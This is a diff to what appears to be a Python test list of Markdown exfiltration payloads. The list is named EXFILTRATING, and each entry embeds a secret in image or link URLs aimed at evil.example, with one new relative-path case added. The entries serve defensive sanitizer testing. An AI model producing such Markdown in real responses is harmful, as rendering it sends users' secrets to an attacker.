@@ -242,6 +242,7 @@ EXFILTRATING = (
     f"![ref]\n\n[ref]:\n  <https://evil.example/p.png?d={SECRET}>\n  'title'",
     f"[see here][1]\n\n[1]: https://evil.example/?d={SECRET}",
     f"> [ref]: //evil.example/?d={SECRET}\n\n[ref][]",
+    f"![ref]\n\n[ref]: /collect?d={SECRET}",
     f"[click](https://evil.example/?d={SECRET})",
     f"[![alt](https://evil.example/{SECRET})](https://evil.example/{SECRET})",
     f"[a [b [c] d] e](https://evil.example/{SECRET})",
